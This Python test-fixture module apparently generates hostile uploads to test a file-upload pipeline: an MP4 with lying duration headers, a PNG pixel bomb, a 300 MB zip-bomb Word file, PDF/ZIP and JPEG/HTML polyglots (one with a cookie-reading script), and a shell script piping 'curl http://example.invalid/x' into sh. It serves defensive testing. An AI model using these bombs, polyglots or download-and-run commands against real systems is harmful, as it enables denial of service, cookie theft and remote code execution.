"""Hostile files for the upload tests, generated on the spot (ffmpeg, Pillow, zipfile, pypdf)."""

import functools
import io
import struct
import zipfile
import zlib

from tests.review import media


def _boxes(data: bytes, visit, start=0, end=None, containers=(b"moov", b"trak", b"mdia")):
    end = len(data) if end is None else end
    position = start
    while position < end:
        size, kind = struct.unpack(">I4s", data[position : position + 8])
        if size == 1:
            size = struct.unpack(">Q", data[position + 8 : position + 16])[0]
        elif size == 0:
            size = end - position
        visit(kind, position, size)
        if kind in containers:
            _boxes(data, visit, position + 8, position + size, containers)
        position += size


@functools.cache
def lying_mp4(seconds=4, claims=600) -> bytes:
    """A real `seconds`-long MP4 whose movie, track and media headers all claim `claims` seconds."""
    data = bytearray(media.mp4(seconds=seconds, colour="776655"))
    scales = {}

    def visit(kind, position, size):
        if kind == b"mvhd":  # version 0: timescale at +20, duration at +24
            scales["movie"] = struct.unpack(">I", data[position + 20 : position + 24])[0]
            struct.pack_into(">I", data, position + 24, scales["movie"] * claims)
        elif kind == b"tkhd":  # duration (in the movie timescale) at +28
            struct.pack_into(">I", data, position + 28, scales["movie"] * claims)
        elif kind == b"mdhd":
            scale = struct.unpack(">I", data[position + 20 : position + 24])[0]
            struct.pack_into(">I", data, position + 24, scale * claims)

    _boxes(bytes(data), visit)
    return bytes(data)


def truncated_mp4(fraction=3) -> bytes:
    """A good micro-lecture cut to a third, as an interrupted copy leaves it."""
    data = media.mp4(colour="3355aa")
    return data[: len(data) // fraction]


def padded_mp4(colour: str, megabytes: int) -> bytes:
    """A valid MP4 made `megabytes` larger with a trailing `free` box (players skip it)."""
    data = media.mp4(colour=colour)
    pad = megabytes * 1024 * 1024
    return data + struct.pack(">I4s", pad + 8, b"free") + b"\0" * pad


def pixel_bomb(width=10_000, height=10_000) -> bytes:
    """A PNG of a few hundred bytes whose header declares width × height pixels (100 Mpx)."""

    def chunk(kind, payload):
        return (
            struct.pack(">I", len(payload))
            + kind
            + payload
            + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")
    )


@functools.cache
def zip_bomb_docx(megabytes=300) -> bytes:
    """A Word document whose document.xml expands from ~300 KB to `megabytes` MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            block = b"\0" * (1024 * 1024)
            for _ in range(megabytes):
                member.write(block)
    return buffer.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A PDF that is also a ZIP archive (its central directory appended)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.exe", b"MZ" + b"\0" * 100)
    return media.pdf("课件") + archive.getvalue()


def jpeg_html_polyglot() -> bytes:
    """A JPEG that carries a web page after its end marker (and in a comment)."""
    return media.jpeg() + b"<html><body><script>alert(document.cookie)</script></body></html>"


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\0" * 200


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n" + b"#" * 200
